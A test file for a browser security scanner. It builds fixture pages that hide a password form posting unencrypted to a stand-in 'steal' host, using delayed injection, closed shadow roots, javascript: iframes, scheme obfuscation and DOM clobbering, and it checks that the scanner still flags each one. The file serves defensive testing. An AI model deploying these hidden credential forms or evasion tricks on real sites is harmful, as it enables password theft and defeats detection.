import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { visitAddress } from '../src/cli/visit-address.ts';
import { reportThat } from './harness/reports.ts';
import { browsers, openWorld, type World } from './harness/world.ts';
import { securePage } from './lab/answers.ts';
import { defineCase } from './lab/case.ts';

const host = 'https://hidden-forms.test';
const patience = { settle: 1_000, timeout: 30_000, deep: false };

const form = '<form action="http://resource.test/steal" method="post"><input type="password" name="p"></form>';
const inserted = `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(form)})`;
/** Runs some time after the page has loaded, when every look at a loaded page is over. */
const later = (code: string, milliseconds = 600): string =>
  `<script>addEventListener('load', () => setTimeout(() => { ${code} }, ${milliseconds}))</script>`;
const filled = (root: string): string => `${root}.innerHTML = ${JSON.stringify(form)}`;

/** A frame that has never loaded anything but what its own address writes into it. */
const scripted = (html: string): string => `<iframe src="javascript:'${html.replaceAll('"', '&quot;')}'"></iframe>`;
const bare = form.replaceAll('"', '');

/** Pages that send a password unencrypted, and how each would keep that from being found. */
const pages: Readonly<Record<string, string>> = {
  'rendered-later': later(inserted),
  'stamped-from-template': `<template>${form}</template>${later(
    "document.body.append(document.querySelector('template').content.cloneNode(true))",
  )}`,
  'action-changed-later': `${form.replace('http:', 'https:')}${later(
    "document.forms[0].setAttribute('action', 'http://resource.test/steal')",
  )}`,
  'base-changed-later': `<form action="steal"><input type="password"></form>${later(
    "document.head.insertAdjacentHTML('beforeend', '<base href=\"http://resource.test/\">')",
  )}`,
  'button-added-later': `${form.replace('http:', 'https:')}${later(
    `document.forms[0].insertAdjacentHTML('beforeend', '<button formaction="http://resource.test/steal">x</button>')`,
  )}`,
  'after-a-flood-of-addresses': `<script>
    for (let i = 0; i < 150; i++) history.replaceState({}, '', '?' + i + 'x'.repeat(2000));
  </script>${later(inserted)}`,
  'after-a-storm-of-nodes': later(
    `for (let i = 0; i < 20000; i++) document.body.append(document.createElement('span')); ${inserted}`,
  ),
  'shadow-root-attached-later': `<div></div>${later(
    filled("document.querySelector('div').attachShadow({ mode: 'open' })"),
  )}`,
  'closed-root-attached-later': `<div></div>${later(
    filled("document.querySelector('div').attachShadow({ mode: 'closed' })"),
  )}`,
  'within-a-root-that-changes': `<div></div><script>
    const root = document.querySelector('div').attachShadow({ mode: 'closed' });
  </script>${later(filled('root'))}`,
  'roots-within-roots': later(
    `let at = document.body.appendChild(document.createElement('p'));
     for (let i = 0; i < 40; i++) at = at.attachShadow({ mode: 'closed' }).appendChild(document.createElement('p'));
     ${filled('at')}`,
  ),
  'the-last-of-three-thousand-roots': `<script>
    for (let i = 0; i < 3000; i++) {
      const root = document.body.appendChild(document.createElement('x-a')).attachShadow({ mode: 'closed' });
      if (i === 2999) ${filled('root')};
    }
  </script>`,
  'after-roots-that-are-gone': `<div></div>${later(
    `let rounds = 0;
     const timer = setInterval(() => {
       const parent = document.querySelector('div');
       parent.replaceChildren();
       for (let i = 0; i < 200; i++)
         parent.appendChild(document.createElement('x-a')).attachShadow({ mode: 'open' }).innerHTML = '<p>x</p>';
       if (++rounds < 4) return;
       clearInterval(timer);
       ${filled('parent.lastChild.shadowRoot')};
     }, 150)`,
  )}`,
  'white-space-in-the-scheme': form.replace('http:', '\u0001 ht&#10;t&#9;p:'),
  'frame-with-a-javascript-address': scripted(bare),
  'frame-added-later': later(`document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(scripted(bare))})`),
  'frame-in-such-a-frame': scripted(
    `<iframe src=javascript:parent.inner></iframe><script>inner=${'`'}${bare}${'`'}</script>`,
  ),
  'frame-written-into': `<iframe></iframe>${later(`frames[0].document.write(${JSON.stringify(form)})`)}`,
  'button-outside-its-form':
    '<form id="f"><input type="password"></form><button form="f" formaction="http://resource.test/steal">x</button>',
};

/** A form whose field the parser, or an attribute, puts elsewhere in the tree. */
const apart: Readonly<Record<string, string>> = {
  'form-in-a-table':
    '<table><form action="http://resource.test/steal"><tr><td><input type="password"></td></tr></form></table>',
  'field-outside-its-form': '<form id="f" action="http://resource.test/steal"></form><input type="password" form="f">',
};

/** Members that our own reading could meet on a form or on the document, named by the page. */
const names = [
  ...['shadowRoot', 'querySelector', 'querySelectorAll', 'attributes', 'getAttribute', 'matches', 'closest', 'form'],
  ...['complete', 'loading', 'parentElement', 'currentSrc', 'localName', 'getRootNode', 'style', 'isConnected'],
  ...['previousElementSibling', 'openOrClosedShadowRoot', 'host', 'action', 'method', 'checkVisibility', 'nodeType'],
];
const documentNames = [
  ...['createTreeWalker', 'childNodes', 'firstChild', 'contentType', 'getElementsByTagName', 'querySelectorAll'],
  ...['baseURI', 'readyState', 'styleSheets', 'adoptedStyleSheets', 'addEventListener', 'isConnected', 'body'],
];

const clobbering: Readonly<Record<string, string>> = {
  'form-members': names
    .map((name) => form.replace('steal', name).replace('</form>', `<input name="${name}"><img alt="" src="/x"></form>`))
    .join(''),
  ...Object.fromEntries(
    ['img', 'form', 'embed', 'object', 'iframe'].map((tag) => [
      `document-members-${tag}`,
      `${documentNames.map((name) => `<${tag} name="${name}" id="${name}"></${tag}>`).join('')}${form}`,
    ]),
  ),
};

const cases = [
  defineCase({
    id: 'hidden-forms',
    title: 'Forms that a page would hide',
    start: `${host}/`,
    answers: Object.fromEntries(
      Object.entries({ ...pages, ...apart, ...clobbering }).map(([id, body]) => [
        `${host}/${id}`,
        securePage({ title: id, body }),
      ]),
    ),
    expect: { verdict: 'insecure' },
  }),
];

describe.each(browsers)('a form that sends a password unencrypted is found in %s', (browser) => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld(browser, { cases });
  });
  afterAll(() => world.close());

  const visit = async (id: string) => {
    const tab = await world.driver.openTab();
    const report = await visitAddress(world.driver, tab, `${host}/${id}`, patience);
    await tab.close();
    return report;
  };
  const failed = (report: Awaited<ReturnType<typeof visit>>) =>
    report.findings.filter(({ outcome }) => outcome === 'fail').map(({ rule }) => rule);

  test.each(Object.keys(pages))('%s', async (id) => {
    const tab = await world.driver.openTab();
    await tab.visit(`${host}/${id}`, patience.timeout);
    const report = await reportThat(world.driver, tab.id, { url: expect.stringContaining(id), verdict: 'insecure' });
    expect(failed(report)).toContain('insecure-form');
    await tab.close();
  });

  test.each(Object.keys(apart))('with what it collects: %s', async (id) => {
    const { forms } = await visit(id);
    expect(forms.items.map(({ collects }) => collects)).toEqual([['password']]);
  });

  test('whatever its fields are called', async () => {
    const { forms } = await visit('form-members');
    const targets = forms.items.map(({ url }) => url.replace('http://resource.test/', ''));
    expect(new Set(targets)).toEqual(new Set(names));
  });

  test.each(Object.keys(clobbering).filter((id) => id.startsWith('document')))('%s', async (id) => {
    expect(failed(await visit(id))).toContain('insecure-form');
  });
});
